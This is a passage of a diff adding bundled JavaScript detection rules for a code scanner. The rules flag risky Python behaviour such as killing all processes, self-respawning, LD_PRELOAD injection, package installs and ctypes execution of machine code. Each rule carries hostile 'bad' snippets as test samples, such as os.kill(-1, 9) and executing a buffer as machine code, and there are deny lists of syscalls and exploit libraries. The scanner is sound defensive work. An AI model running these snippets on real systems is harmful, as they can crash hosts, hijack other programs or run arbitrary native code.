+            { all: [{ call: ['psutil.process_iter', 'psutil.pids'] }, { call: ['os.kill', '*.kill', '*.terminate'] }] },
+        ],
+        bad: [
+            "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        os.kill(int(p), 9)",
+            'import psutil\nfor p in psutil.process_iter():\n    p.kill()',
+            'import os\nos.kill(-1, 9)',
+            'import os, signal\nos.kill(1, signal.SIGKILL)',
+            'import os\nos.killpg(0, 9)',
+        ],
+        ok: ['import os\nos.kill(123, 9)', 'import os\nos.kill(-1, 0)'],
+    },
+    {
+        id: 'py/process/starts-itself',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Starts its own file again',
+        recommendation: 'Call the function again instead of starting the program anew',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-674' },
+        tags: ['fork'],
+        match: { call: python_process_STARTERS, where: { arg: 'any', contains: OWN_FILE } },
+        bad: [
+            'import subprocess, sys\nsubprocess.Popen([sys.executable, __file__])',
+            'import os\nos.system("python " + __file__)',
+            'import os, sys\nos.execv(sys.executable, ["python", __file__])',
+        ],
+        ok: ['print(__file__)', 'import os\nprint(os.path.dirname(__file__))'],
+    },
+    {
+        id: 'py/process/fork',
+        languages: python_process_languages,
+        severity: 'low',
+        message: 'Splits itself into two processes',
+        recommendation: 'Do the work in one process',
+        metadata: { capability: 'process' },
+        tags: ['fork'],
+        match: { call: ['os.fork', 'os.forkpty', 'pty.fork'] },
+        bad: ['import os\nos.fork()', 'from os import fork as f\nf()'],
+        ok: ['fork = 1\nprint(fork)', 'print("os.fork()")'],
+    },
+    {
+        id: 'py/process/detached',
+        languages: python_process_languages,
+        severity: 'medium',
+        message: 'Cuts a process loose from the program that started it',
+        recommendation: 'Wait for every process that the program starts',
+        metadata: { capability: 'process' },
+        match: [
+            { call: ['os.setsid', 'os.daemon', 'daemon.DaemonContext'] },
+            { call: SUBPROCESS, where: { arg: 'start_new_session', is: 'true' } },
+            { call: SUBPROCESS, where: { arg: 'preexec_fn', path: 'os.setsid' } },
+        ],
+        bad: ['import os\nos.setsid()', "import subprocess\nsubprocess.Popen(['sleep', '9'], start_new_session=True)"],
+        ok: ["import subprocess\nsubprocess.Popen(['sleep', '1']).wait()"],
+    },
+    {
+        id: 'py/native/preload',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Puts foreign code into every program that starts (LD_PRELOAD)',
+        recommendation: 'Leave the environment of other programs as it is',
+        metadata: { capability: 'native', cwe: 'CWE-426' },
+        match: {
+            assign: ['LD_PRELOAD', 'LD_AUDIT', 'BASH_ENV', 'PYTHONSTARTUP', 'NODE_OPTIONS', 'GIT_SSH_COMMAND'].map((name) => `os.environ.${name}`),
+        },
+        bad: [
+            "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'",
+            "import subprocess\nsubprocess.run(['ls'], env={'LD_PRELOAD': '/tmp/x.so'})",
+        ],
+        ok: ["import os\nos.environ['LANG'] = 'C'", "import subprocess\nsubprocess.run(['ls'], env={'LANG': 'C'})"],
+    },
+    {
+        id: 'py/process/preload',
+        languages: python_process_languages,
+        severity: 'medium',
+        message: 'Sets a variable that makes other programs load or run something',
+        recommendation: 'Leave the environment of other programs as it is',
+        metadata: { capability: 'process', cwe: 'CWE-426' },
+        match: {
+            assign: [
+                'LD_PRELOAD',
+                'LD_LIBRARY_PATH',
+                'LD_AUDIT',
+                'BASH_ENV',
+                'ENV',
+                'PYTHONSTARTUP',
+                'PYTHONPATH',
+                'PYTHONBREAKPOINT',
+                'BROWSER',
+                'GIT_SSH_COMMAND',
+                'PROMPT_COMMAND',
+                'NODE_OPTIONS',
+            ].map((name) => `os.environ.${name}`),
+        },
+        bad: [
+            "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'",
+            "from os import environ as e\ne['PYTHON' + 'STARTUP'] = 'x.py'",
+        ],
+        ok: ["import os\nos.environ['LANG'] = 'C'", "import os\nprint(os.environ.get('LD_PRELOAD'))"],
+    },
+    {
+        id: 'py/process/installs-packages',
+        languages: python_process_languages,
+        severity: 'medium',
+        message: 'Installs packages, whose own code then runs',
+        recommendation: 'Use what the image has',
+        metadata: { capability: 'process', cwe: 'CWE-494' },
+        tags: ['download'],
+        match: { call: ['pip.main', 'pip._internal.*', 'ensurepip.*', 'setuptools.setup', 'conda.*'] },
+        bad: ["import pip\npip.main(['install', 'x'])", 'from pip._internal import main as m\nm(["install", "x"])'],
+        ok: ['import pip', "pip = 'x'\nprint(pip)"],
+    },
+    {
+        id: 'py/native/ctypes',
+        languages: python_process_languages,
+        severity: 'low',
+        message: 'Calls native code',
+        recommendation: 'Use the standard library',
+        metadata: { capability: 'native', cwe: 'CWE-676' },
+        match: [
+            { import: ['ctypes*', 'cffi', '_cffi_backend', 'llvmlite', 'keystone', 'pwn', 'pwnlib*'] },
+            { call: ['ctypes.*', 'cffi.*'] },
+        ],
+        bad: ['import ctypes', 'from ctypes import CDLL as c\nc("libm.so.6")', 'import cffi'],
+        ok: ['ctypes = None\nprint(ctypes)', '# import ctypes', 'import struct\nstruct.pack("i", 1)'],
+    },
+    {
+        id: 'py/native/machine-code',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Calls bytes of its own making as machine code',
+        recommendation: 'Write the function in Python, or in an extension that is built in the open',
+        metadata: { capability: 'native', cwe: 'CWE-94' },
+        match: {
+            all: [
+                { call: ['ctypes.CFUNCTYPE*', 'ctypes.WINFUNCTYPE*', 'ctypes.PYFUNCTYPE*'] },
+                { call: ['ctypes.cast', 'ctypes.memmove', 'ctypes.create_string_buffer', 'ctypes.addressof', 'mmap.mmap'] },
+            ],
+        },
+        bad: [
+            'import ctypes\nb = ctypes.create_string_buffer(b"x")\nctypes.cast(b, ctypes.CFUNCTYPE(None))()',
+            'import ctypes\nf = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char(0)))\nf()',
+        ],
+        ok: [
+            'import ctypes\nCMP = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)\n@CMP\ndef f(a):\n    return a',
+            'import ctypes\nctypes.create_string_buffer(9)',
+        ],
+    },
+    {
+        id: 'py/native/memory',
+        languages: python_process_languages,
+        severity: 'medium',
+        message: 'Reads or writes memory by address',
+        recommendation: 'Use bytes, memoryview or struct',
+        metadata: { capability: 'native', cwe: 'CWE-119' },
+        match: [
+            {
+                call: [
+                    'ctypes.string_at',
+                    'ctypes.wstring_at',
+                    'ctypes.memmove',
+                    'ctypes.memset',
+                    'ctypes.cast',
+                    'ctypes.*.from_address',
+                    'ctypes.CFUNCTYPE*',
+                    'ctypes.pythonapi.*',
+                    '*.enable_load_extension',
+                ],
+            },
+            { call: ['ctypes.CDLL', 'ctypes.cdll.LoadLibrary', 'ctypes.PyDLL'], where: { arg: 0, is: 'external' } },
+        ],
+        bad: [
+            'import ctypes\nctypes.string_at(0)',
+            'from ctypes import memset\nmemset(id(1), 0, 8)',
+            'import ctypes as c\nc.c_int.from_address(1)',
+        ],
+        ok: ['import ctypes\nprint(ctypes.sizeof(ctypes.c_int))', 'import ctypes\nx = ctypes.c_int(1)\nctypes.byref(x)'],
+    },
+    {
+        id: 'py/native/system-call',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Calls the system through native code, past every check of the interpreter',
+        recommendation: 'Use the function of the standard library',
+        metadata: { capability: 'native', cwe: 'CWE-676' },
+        match: [
+            {
+                call: [
+                    'system',
+                    'popen',
+                    'exec*',
+                    'fork',
+                    'vfork',
+                    'clone',
+                    'kill',
+                    'syscall',
+                    'mprotect',
+                    'ptrace',
+                    'mount',
+                    'umount*',
+                    'unshare',
+                    'setns',
+                    'chroot',
+                    'setuid',
+                    'dlopen',
+                    'process_vm_*',
+                    'prctl',
+                    'reboot',
+                    'mmap',
+                    'unlink',
+                ].flatMap((name) => [
+                    `ctypes.CDLL.${name}`,
+                    `ctypes.cdll.LoadLibrary.${name}`,
+                    `ctypes.PyDLL.${name}`,
+                    `ctypes.pythonapi.${name}`,
+                    `cffi.FFI.dlopen.${name}`,
+                    `ctypes.cdll[].${name}`,
+                ]),
+            },
+            { call: 'mmap.mmap', where: { arg: 'prot', is: ['number'], atLeast: 4 } },
+            { all: [{ call: 'mmap.mmap' }, { attribute: ['mmap.PROT_EXEC'] }] },
+        ],
+        bad: [
+            'import ctypes\nctypes.CDLL(None).system(b"id")',
+            'from ctypes import cdll\ncdll.LoadLibrary("libc.so.6").execve(0, 0, 0)',
+            'import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.mount(b"a", b"b", b"c", 0, 0)',
+            'import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)',
+        ],
+        ok: ['import ctypes\nctypes.CDLL("libm.so.6").sqrt(2)', 'import mmap\nmmap.mmap(-1, 4096)'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/python.js
+
+
+
+
+const pythonRules = [...python_code_codeRules, ...python_process_processRules, ...fileRules, ...networkRules];
+
+;// CONCATENATED MODULE: ./build/rules/format.js
+const NO_OVERRIDES = { disable: [], severity: {}, allow: { network: [] } };
+
+;// CONCATENATED MODULE: ./build/rules/index.js
+/** All built-in rules, and the one who explains them. */
+
+
+
+
+
+
+const builtInRules = [
+    ...anyRules,
+    ...combinationRules,
+    ...pythonRules,
+    ...javascriptRules,
+    ...bashRules,
+];
 
 
 /***/ })
